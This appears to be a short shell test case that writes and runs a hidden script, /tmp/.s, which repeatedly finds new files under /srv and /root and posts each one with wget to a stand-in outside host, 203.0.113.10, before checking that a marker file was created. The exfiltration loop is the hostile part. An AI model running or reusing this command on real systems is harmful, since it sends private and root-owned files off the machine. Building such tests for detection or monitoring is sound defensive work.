#!/bin/sh
. /opt/case/case.sh

cat >/tmp/.s <<'END'
touch -t 202001010000 /tmp/.last; r=0
while test $r -lt 8; do
    find /srv /root -type f -newer /tmp/.last | while read -r f; do wget -q -O /dev/null --header "X-File: $f" --post-file "$f" http://203.0.113.10:8080/c; done
    touch /tmp/.last; usleep 400000; echo "order $r" >/srv/data/new-$r.txt; r=$((r + 1))
done
END
sh /tmp/.s
test -e /srv/data/new-7.txt
took_place
